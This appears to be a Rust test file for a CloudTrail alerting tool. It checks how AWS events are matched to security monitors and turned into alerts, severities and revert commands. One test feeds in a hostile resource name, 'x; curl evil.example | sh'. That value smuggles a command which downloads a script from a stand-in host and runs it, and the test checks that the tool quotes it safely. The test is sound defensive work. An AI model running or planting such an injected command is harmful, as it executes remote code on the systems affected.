            .collect();
        if DISMISSED_NEGATIVES.contains(&name.as_str()) {
            assert_eq!(selecting, [TAMPER], "{name}");
            let verdict = handler::pipeline::verdict(&raw, &every, common::TODAY);
            assert!(
                matches!(verdict, handler::pipeline::Verdict::Dismissed { .. }),
                "{name}"
            );
        } else {
            assert!(selecting.is_empty(), "{name}: {selecting:?}");
        }
    }
}

#[test]
fn every_monitor_selects_a_sample_that_succeeded_and_one_that_failed() {
    let every = Selection::every();
    let samples = all_samples();
    for monitor in every.monitors() {
        let outcomes: Vec<Outcome> = samples
            .iter()
            .map(|(_, raw)| common::raw(raw))
            .filter(|raw| {
                Event::parse(raw).is_ok_and(|e| monitor.selectors().iter().any(|s| s.matches(&e)))
            })
            .map(|raw| judge(&raw).outcome)
            .collect();
        // Where the failure is the finding, every selected sample failed.
        if monitor.failure == Failure::Attempt {
            assert!(
                outcomes.contains(&Outcome::Succeeded),
                "{}: none succeeded",
                monitor.id
            );
        }
        // Sign-ins without MFA are selected only when they succeed; the failed
        // ones belong to console-sign-in-failure.
        if monitor.id != "console-sign-in-without-mfa" {
            assert!(
                outcomes.contains(&Outcome::Failed),
                "{}: none failed",
                monitor.id
            );
        }
    }
}

#[test]
fn one_event_matching_several_monitors_is_one_alert_with_the_highest_severity_and_every_id() {
    let raw = common::raw(&sample("iam-create-user-by-root"));
    let alert = judge(&raw);
    assert_eq!(
        (alert.monitors, alert.severity, alert.title.as_str()),
        (
            vec!["iam-create-user", "root-account-usage"],
            Critical,
            "root created IAM user backdoor"
        )
    );
    assert_eq!(
        alert.reasons[0],
        "the root session was not MFA-authenticated"
    );
}

#[test]
fn a_denied_call_names_both_the_attempt_and_the_denial() {
    let raw = common::raw(&sample("cloudtrail-change-stop-logging-denied"));
    let alert = judge(&raw);
    assert_eq!(
        alert.monitors,
        ["cloudtrail-change", "unauthorized-api-calls"]
    );
    assert_eq!(
        (alert.controls, alert.techniques.first().copied()),
        (
            vec!["CIS CloudWatch.5", "CIS CloudWatch.2"],
            Some("aws.defense-evasion.cloudtrail-stop")
        )
    );
}

#[test]
fn next_steps_carry_a_quoted_revert_command_from_the_event() {
    let raw = common::raw(&sample("ec2-ingress-legacy-ssh-from-internet"));
    let steps = judge(&raw).next_steps;
    assert!(
        steps.contains(&"Revert: aws ec2 revoke-security-group-ingress --group-id sg-0legacy1234567890 --protocol tcp --port 22 --cidr 0.0.0.0/0 --region eu-west-1".to_owned()),
        "{steps:?}"
    );
}

#[test]
fn a_revert_command_quotes_a_hostile_name() {
    let mut raw = sample("cloudtrail-change-stop-logging");
    raw["detail"]["requestParameters"]["name"] = "x; curl evil.example | sh".into();
    let steps = judge(&common::raw(&raw)).next_steps;
    assert!(
        steps.contains(&"Revert: aws cloudtrail start-logging --name 'x; curl evil.example | sh' --region us-east-1".to_owned()),
        "{steps:?}"
    );
}

#[test]
fn a_failed_attempt_offers_no_revert_command() {
    let raw = common::raw(&sample("cloudtrail-change-stop-logging-denied"));
    let steps = judge(&raw).next_steps;
    assert!(steps.iter().all(|s| !s.starts_with("Revert")), "{steps:?}");
}

#[test]
fn every_reason_that_raised_severity_is_listed() {
    let raw = sample("ec2-ingress-mixed-public-https-private-postgres");
    assert_eq!(
        judge(&common::raw(&raw)).reasons,
        [
            "tcp port 443 open to the whole internet (0.0.0.0/0)",
            "tcp port 443 open to the whole internet (::/0)",
            "tcp port 5432 open to the private range 10.20.0.0/16",
        ]
    );
}

#[test]
fn a_policy_sent_as_a_json_string_is_judged_like_the_document() {
    let as_object = sample("s3-put-bucket-policy-public-read");
    let mut as_string = as_object.clone();
    let policy = &mut as_string["detail"]["requestParameters"]["bucketPolicy"];
    *policy = policy.to_string().into();

    let (object, string) = (common::raw(&as_object), common::raw(&as_string));
    let (object, string) = (judge(&object), judge(&string));

    assert_eq!(
        (string.severity, string.title, string.reasons),
        (object.severity, object.title, object.reasons)
    );
}

#[test]
fn a_policy_string_that_is_not_json_is_reviewed_naming_the_field_and_position() {
    let mut raw = sample("s3-put-bucket-policy-public-read");
    raw["detail"]["requestParameters"]["bucketPolicy"] = "{\"Statement\": [".into();
    let raw = common::raw(&raw);

    let alert = judge(&raw);

    assert_eq!((alert.monitor, alert.severity), ("s3-bucket-policy", High));
    assert_eq!(
        alert.reasons,
        [
            "trailwatch could not judge it: cannot read requestParameters.bucketPolicy: \
          EOF while parsing a list at line 1 column 15"
        ]
    );
}

#[test]
fn failed_call_says_it_failed_before_what_it_would_have_done() {
    let raw = sample("s3-put-bucket-policy-public-denied");
    let reasons = judge(&common::raw(&raw)).reasons;
    assert_eq!(
        reasons[0],
        "the call FAILED with AccessDenied: nothing was changed"
    );
    let denial = "the caller lacked permission for s3:PutBucketPolicy (AccessDenied)";
    assert!(
        reasons[1..]
            .iter()
            .all(|r| r.starts_with("had it succeeded: ") || r.starts_with(denial)),
        "{reasons:?}"
    );
}

#[test]
fn failed_call_carries_the_error_code_and_message() {
    let raw = sample("iam-create-user-denied");
    let error = judge(&common::raw(&raw)).error.expect("an error");
    assert_eq!(error.code, "AccessDenied");
    assert!(error.message.is_some_and(|m| {
        m.starts_with("User: arn:aws:iam::111122223333:user/mallory is not authorized")
    }));
}

#[test]
fn actor_carries_session_issuer_and_mfa_string_as_bool() {
    let raw = sample("iam-create-user-by-cloudformation-role");
    let actor = judge(&common::raw(&raw)).actor;
    assert_eq!(
        actor.session_issuer.as_deref(),
        Some("arn:aws:iam::111122223333:role/DeployRole")
    );
    assert_eq!(actor.mfa, Some(false));
    assert_eq!(
        actor.source_ip.as_deref(),
        Some("cloudformation.amazonaws.com")
    );
}

#[test]
fn console_link_points_at_the_event() {
    let raw = common::raw(&sample("iam-create-user-by-admin"));
    let alert = judge(&raw);
    let id = alert.event_id.clone().expect("event id");
    assert_eq!(
        alert.console_url.as_deref(),
        Some(format!("https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/{id}").as_str())
    );
}

#[test]
fn old_event_version_without_recipient_account_takes_the_envelope_account() {
    let raw = common::raw(&sample("iam-create-access-key-old-event-version"));
    let alert = judge(&raw);
    assert_eq!(
        (alert.event_id, alert.account.as_deref()),
        (None, Some("111122223333"))
    );
}

#[test]
fn every_sample_renders_to_reviewed_snapshots() {
    let published = all_samples()
        .into_iter()
        .filter(|(name, _)| !DISMISSED_NEGATIVES.contains(&name.as_str()));
    for (name, raw) in published {
        let message = render(judge(&common::raw(&raw)));
        let bodies: serde_json::Value =
            serde_json::from_str(&message.body).expect("bodies are JSON");
        let document: serde_json::Value =
            serde_json::from_str(bodies["sqs"].as_str().expect("sqs body"))
                .expect("document is JSON");
        insta::assert_snapshot!(format!("{name}.subject"), message.subject);
        insta::assert_snapshot!(
            format!("{name}.text"),
            bodies["email"].as_str().expect("email body")
        );
        insta::assert_json_snapshot!(format!("{name}.attributes"), message.attributes);
        // The raw event is the sample's detail: check it is embedded, then
        // snapshot the document without it.
        let mut document = document;
        assert_eq!(
            document.get("event"),
            Some(&raw["detail"]),
            "{name}: raw event embedded"
        );
        document.as_object_mut().expect("object").remove("event");
        // Key order of a parsed document depends on serde_json features other crates
        // enable; sort so the snapshot does not.
        insta::with_settings!({sort_maps => true}, {
            insta::assert_json_snapshot!(format!("{name}.document"), document);
        });
    }
}
